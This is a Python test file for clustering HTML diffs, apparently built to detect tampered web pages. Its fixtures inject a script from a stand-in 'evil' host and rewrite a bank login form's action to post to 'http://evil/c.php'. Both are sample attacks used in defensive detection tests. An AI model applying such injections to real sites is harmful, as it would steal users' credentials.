"""Tests for fine-grained diff clustering."""

from collections import Counter

import pytest

from repro.core.acquisition import HttpCapture
from repro.core.clustering import hierarchical_cluster
from repro.core.diffcluster import (
    DiffProfile,
    build_diff_profile,
    diff_cluster,
    tag_diff,
)
from tests.core.test_distance_kernels import jaccard_oracle

ORIGINAL = ("<html><head><title>Bank</title></head><body>"
            "<h1>Bank</h1><p>welcome</p>"
            "<form action=\"/login\"><input type=\"password\" "
            "name=\"p\"></form></body></html>")


def capture_with(body, domain="bank.example", ip="9.9.9.9"):
    return HttpCapture(domain, ip, "5.5.5.5", status=200, body=body)


SHOP = ("<html><head><title>Shop</title></head><body>"
        "<div>items</div><form action=\"/buy\">"
        "<input name=\"q\"></form></body></html>")
INJECT = "<script src=\"http://evil/x.js\"></script>"


def modified_profiles():
    """Diff profiles for a mix of injections, removals and form swaps on
    two sites, including exact repeats and an unmodified page."""
    edits = [
        (ORIGINAL, "<body>", "<body>" + INJECT),
        (SHOP, "<body>", "<body>" + INJECT),
        (ORIGINAL, "<body>", "<body>" + INJECT + INJECT),
        (SHOP, "<body>", "<body>" + INJECT + "<div>ad</div>"),
        (ORIGINAL, "<p>welcome</p>", "<iframe src=\"x\"></iframe>"),
        (SHOP, "<div>items</div>", "<iframe src=\"x\"></iframe>"),
        (ORIGINAL, 'action="/login"', 'action="http://evil/c.php"'),
        (SHOP, 'action="/buy"', 'action="http://evil/c.php"'),
        (ORIGINAL, "<h1>Bank</h1>", ""),
        (SHOP, "<p>", "<p>"),
        (ORIGINAL, "<body>", "<body>" + INJECT),
    ]
    return [build_diff_profile(capture_with(truth.replace(old, new)),
                               [truth])
            for truth, old, new in edits]


def per_pair_jaccard(profile_a, profile_b):
    """The oracle Jaccard over multisets rebuilt for every pair."""
    return jaccard_oracle(profile_a.combined_multiset(),
                          profile_b.combined_multiset())


class TestTagDiff:
    def test_identical_pages_no_diff(self):
        added, removed = tag_diff(ORIGINAL, ORIGINAL)
        assert not added
        assert not removed

    def test_injected_script_detected(self):
        modified = ORIGINAL.replace(
            "<body>", "<body><script src=\"http://evil/x.js\"></script>")
        added, removed = tag_diff(modified, ORIGINAL)
        assert added["script"] == 1
        assert not removed

    def test_removed_form_detected(self):
        modified = ORIGINAL.replace(
            "<form action=\"/login\"><input type=\"password\" "
            "name=\"p\"></form>", "")
        added, removed = tag_diff(modified, ORIGINAL)
        assert removed["form"] == 1
        assert removed["input"] == 1

    def test_attribute_change_is_replace(self):
        modified = ORIGINAL.replace('action="/login"',
                                    'action="http://evil/c.php"')
        added, removed = tag_diff(modified, ORIGINAL)
        assert added["form"] == 1
        assert removed["form"] == 1


class TestDiffProfile:
    def test_modification_size(self):
        modified = ORIGINAL.replace("<body>", "<body><script></script>")
        profile = build_diff_profile(capture_with(modified), [ORIGINAL])
        assert profile.modification_size == 1
        assert profile.added["script"] == 1

    def test_best_ground_truth_selected(self):
        other_truth = "<html><title>Unrelated</title><body><table>" \
            "<tr><td>x</td></tr></table></body></html>"
        modified = ORIGINAL.replace("<body>", "<body><script></script>")
        profile = build_diff_profile(capture_with(modified),
                                     [other_truth, ORIGINAL])
        # Diffed against the similar truth, not the unrelated one.
        assert profile.modification_size <= 2

    def test_requires_truth(self):
        with pytest.raises(ValueError):
            build_diff_profile(capture_with(ORIGINAL), [])

    def test_combined_multiset_signs(self):
        profile = DiffProfile(capture_with("x"), {"script": 2},
                              {"form": 1}, 0.9)
        combined = profile.combined_multiset()
        assert combined["+script"] == 2
        assert combined["-form"] == 1


class TestDiffClustering:
    def test_same_modification_groups_across_sites(self):
        # The same script injection on two different sites clusters
        # together; a form swap clusters separately.
        site_a, site_b, inject = ORIGINAL, SHOP, INJECT
        profiles = [
            build_diff_profile(
                capture_with(site_a.replace("<body>", "<body>" + inject)),
                [site_a]),
            build_diff_profile(
                capture_with(site_b.replace("<body>", "<body>" + inject),
                             domain="shop.example"), [site_b]),
            build_diff_profile(
                capture_with(site_a.replace("<p>welcome</p>",
                                            "<iframe src=\"x\"></iframe>"
                                            "<blink>y</blink>")),
                [site_a]),
        ]
        clusters, __ = diff_cluster(profiles, threshold=0.5)
        assert len(clusters) == 2
        sizes = sorted(len(c) for c in clusters)
        assert sizes == [1, 2]

    def test_empty_input(self):
        clusters, __ = diff_cluster([], threshold=0.5)
        assert clusters == []

    def test_combined_multiset_built_once_per_profile(self, monkeypatch):
        profiles = modified_profiles()
        calls = Counter()
        original = DiffProfile.combined_multiset

        def counting(profile):
            calls[id(profile)] += 1
            return original(profile)

        monkeypatch.setattr(DiffProfile, "combined_multiset", counting)
        diff_cluster(profiles, threshold=0.5)
        assert sum(calls.values()) <= len(profiles)
        assert max(calls.values()) == 1

    @pytest.mark.parametrize("threshold", [0.0, 0.3, 0.5, 0.8, 1.0])
    def test_matches_per_pair_reference(self, threshold):
        profiles = modified_profiles()
        clusters, dendrogram = diff_cluster(profiles, threshold=threshold)
        expected, expected_dendrogram = hierarchical_cluster(
            profiles, per_pair_jaccard, threshold, linkage="average")
        assert [cluster.indices for cluster in clusters] == \
            [cluster.indices for cluster in expected]
        for cluster, reference in zip(clusters, expected):
            assert all(item is other
                       for item, other in zip(cluster.items,
                                              reference.items))
        assert dendrogram.merges == expected_dendrogram.merges
        assert dendrogram.merge_distances() == \
            expected_dendrogram.merge_distances()
